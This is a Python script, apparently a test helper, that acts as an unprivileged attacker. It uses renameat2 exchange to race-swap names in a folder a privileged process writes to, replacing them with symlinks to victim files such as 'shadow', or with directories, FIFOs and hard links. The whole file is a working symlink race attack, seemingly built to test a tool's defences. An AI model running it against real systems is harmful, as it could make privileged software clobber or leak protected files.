"""An account without rights that exchanges the names in a folder of its own; run as a program of its own, with Python alone.

attacker.py FOLDER VICTIMS toggle KIND     exchange once; the next time, exchange back
attacker.py FOLDER VICTIMS loop            exchange at random and without a pause, until it is killed
"""

from __future__ import annotations

import ctypes
import json
import os
import random
import stat
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
HERE, EXCHANGE = -100, 2  # AT_FDCWD, RENAME_EXCHANGE: https://man7.org/linux/man-pages/man2/rename.2.html
KINDS = ("folder", "names", "staging", "hard links", "directories", "pipes", "inner links")


def exchange(one: Path, other: Path) -> None:
    """Exchange two names in one step."""
    if LIBC.renameat2(HERE, os.fsencode(one), HERE, os.fsencode(other), EXCHANGE):
        raise OSError(ctypes.get_errno(), "renameat2")


class Attacker:
    def __init__(self, folder: Path, victims: Path) -> None:
        self._folder, self._victims, self._evil = folder, victims, folder / ".evil"
        self._evil.mkdir(exist_ok=True)
        self._made = 0

    def _names(self, kind: str) -> Iterator[Path]:
        """What is exchanged: the folder of targets; every name there is; or those that a delivery makes for itself."""
        if kind == "folder":
            yield self._folder / "sub"
            return
        for folder in (self._folder, self._folder / "sub"):
            for name in os.listdir(folder) if folder.is_dir() else ():
                is_staging = ".pki-" in name or name[-1:].isdigit()
                if name != ".evil" and (kind != "staging" or is_staging) and name != "sub":
                    yield folder / name

    def _substitute(self, name: Path, kind: str) -> Path:
        """Something else, to be called by that name."""
        self._made += 1
        made = self._evil / f"{os.getpid()}-{self._made}"
        if kind == "directories":
            made.mkdir()
            (made / "inner").touch()
        elif kind == "hard links":
            next(self._folder.glob(".evil/shadow-*")).rename(made)  # as if the kernel let everybody make them
        elif kind == "pipes":
            os.mkfifo(made)
        elif stat.S_ISDIR(name.lstat().st_mode):
            made.symlink_to(self._victims / "folder")
        elif kind == "inner links":
            made.symlink_to(self._victims / "folder" / name.name)  # which may not be there: a file would be made
        else:
            made.symlink_to(self._victims / "shadow")
        return made

    def swap(self, kind: str) -> list[tuple[Path, Path]]:
        done = []
        for name in list(self._names(kind)):
            with suppress(OSError):
                other = self._substitute(name, kind)
                exchange(name, other)
                done.append((name, other))
        return done

    @staticmethod
    def swap_back(done: list[tuple[Path, Path]]) -> None:
        for name, other in reversed(done):
            with suppress(OSError):
                exchange(name, other)


def toggle(attacker: Attacker, record: Path, kind: str) -> None:
    if record.exists():
        attacker.swap_back([(Path(one), Path(other)) for one, other in json.loads(record.read_text())])
        record.unlink()
    else:
        record.write_text(json.dumps([(str(one), str(other)) for one, other in attacker.swap(kind)]))


def loop(attacker: Attacker, evil: Path) -> None:
    chance = random.Random()  # noqa: S311 - no secret hangs on it
    while True:
        with suppress(OSError):
            done = attacker.swap(
                chance.choice(("folder", "folder", "names", "staging", "directories", "hard links", "inner links"))
            )
            for _ in range(chance.randrange(4)):  # and again at once: the window may be short
                attacker.swap_back(done)
                for name, other in done:
                    with suppress(OSError):
                        exchange(name, other)
            attacker.swap_back(done)
            for one in evil.iterdir():
                with suppress(OSError):
                    if one.lstat().st_nlink > 1 and not one.is_dir():
                        one.rename(evil / f"shadow-{one.name}")
                    else:
                        one.unlink()


def main() -> None:
    folder, victims = Path(sys.argv[1]), Path(sys.argv[2])
    attacker = Attacker(folder, victims)
    if sys.argv[3] == "toggle":
        toggle(attacker, folder / ".evil/record", sys.argv[4])
    else:
        loop(attacker, folder / ".evil")


if __name__ == "__main__":
    main()
